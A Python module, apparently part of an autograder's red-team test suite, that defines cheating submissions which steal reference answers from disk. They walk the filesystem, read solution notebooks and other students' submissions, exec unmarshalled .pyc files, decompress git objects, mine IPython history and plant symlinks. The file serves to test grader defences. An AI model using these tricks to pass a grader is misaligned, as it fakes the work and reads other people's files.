"""Stealing the right answer from disk: the course, its history, its solutions, other people."""

from .paper import attack

WALK = """
def files(roots, endings, seconds=6.0, largest=2_000_000):
    stop = time.monotonic() + seconds
    for root in roots:
        for folder, below, names in os.walk(root):
            below[:] = [
                name for name in below
                if name not in ("proc", "sys", "torch", "numpy", "nvidia", "node_modules", "share")
            ]
            for name in names:
                if time.monotonic() > stop:
                    return
                path = os.path.join(folder, name)
                try:
                    if name.endswith(endings) and os.path.getsize(path) < largest:
                        with open(path, "rb") as stream:
                            yield path, stream.read()
                except OSError:
                    pass


def roots():
    import autograder
    above = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__ or "")))
    return [above, "@COURSE@", os.path.dirname(os.getcwd()), os.path.expanduser("~")]


def look(roots, endings, name, read=lambda path, data: data.decode("utf-8", "replace")):
    for path, data in files(roots, endings):
        found = bring_to_life(read(path, data), name)
        if found:
            return found
    return None


"""


@attack
def read_the_library_on_disk(paper):
    """Python files below the course's and the caller's folders."""
    paper.thief(
        WALK
        + """
def loot(name):
    return look(roots(), ".py", name)
"""
    )


@attack
def read_the_whole_disk(paper):
    """Every small Python file and notebook below /, outside the system's own packages."""
    paper.thief(
        WALK
        + """
def loot(name):
    top = ["/" + name for name in os.listdir("/") if name not in ("proc", "sys", "usr", "lib")]
    return look(top, (".py", ".ipynb"), name)
"""
    )


@attack
def read_the_solved_notebook(paper):
    """The notebooks in solutions/, and those that other students handed in."""
    paper.thief(
        WALK
        + """
def loot(name):
    return look([os.path.join(root, part) for root in roots()
                 for part in ("solutions", "submitted", "class/submitted", "")],
                ".ipynb", name)
"""
    )


@attack
def read_compiled_modules(paper):
    """The .pyc files in __pycache__, unmarshalled."""
    paper.thief(
        WALK
        + """
import marshal


def loot(name):
    for path, data in files(roots(), ".pyc"):
        if b"attention" not in data and b"softmax" not in data:
            continue
        try:
            space = {"__name__": "stolen"}
            exec(marshal.loads(data[16:]), space)
        except Exception:
            continue
        if callable(space.get(name)):
            return space[name]
"""
    )


@attack
def read_the_repositorys_objects(paper):
    """The course's git objects, decompressed."""
    paper.thief(
        WALK
        + """
import zlib


def text(path, data):
    try:
        return zlib.decompress(data).partition(b"\\0")[2].decode("utf-8", "replace")
    except zlib.error:
        return ""


def loot(name):
    return look([root + "/.git/objects" for root in roots()], "", name, text)
"""
    )


@attack
def follow_the_installation(paper):
    """The path of an editable install, from its metadata, finder and .pth files."""
    paper.thief(
        WALK
        + """
import re


def loot(name):
    found = set()
    for folder in sys.path:
        for path, data in files([folder] if "site-packages" in folder else [],
                                (".pth", "direct_url.json", "finder.py"), largest=100_000):
            for match in re.findall(r"/[\\w./-]+", data.decode("utf-8", "replace")):
                found.add(match.rstrip("/").removesuffix("/attention"))
    found = [path.replace("//", "/") for path in found if os.path.isdir(path.replace("//", "/"))]
    return look([path for path in found if "site-packages" not in path], ".py", name)
"""
    )


@attack
def read_history(paper):
    """In, Out and the history database that IPython keeps of everyone's sessions."""
    paper.thief(
        WALK
        + """
def loot(name):
    shell = get_ipython()
    for text in [*map(str, shell.user_ns.get("In", [])), *map(str, shell.user_ns.get("Out", []))]:
        found = bring_to_life(text, name)
        if found:
            return found
    import sqlite3
    for path, _ in files([os.path.expanduser("~/.ipython"), "/root/.ipython"], ".sqlite"):
        for (text,) in sqlite3.connect(path).execute("select source from history"):
            found = bring_to_life(text, name)
            if found:
                return found
"""
    )


@attack
def link_to_the_library(paper):
    """Symbolic links in the submission's folder that point into the course."""
    paper.links["helper.py"] = "@COURSE@/attention/@MODULE@.py"
    paper.links["course"] = "@COURSE@"
    paper.thief(
        WALK
        + """
def loot(name):
    try:
        sys.path.insert(0, os.getcwd())
        import helper
        return getattr(helper, name, None)
    except ImportError:
        return look([os.path.join(os.getcwd(), "course", "attention")], ".py", name)
"""
    )


@attack
def answers_beside_the_notebook(paper):
    """The library's text handed in as a data file: only worth something if it is shipped along."""
    paper.thief("""
        def loot(name):
            try:
                return bring_to_life(open("@COURSE@/autograder/mistakes/@MODULE@.py").read(), name)
            except OSError:
                return None
    """)
    paper.files["readme.txt"] = b"nothing here"
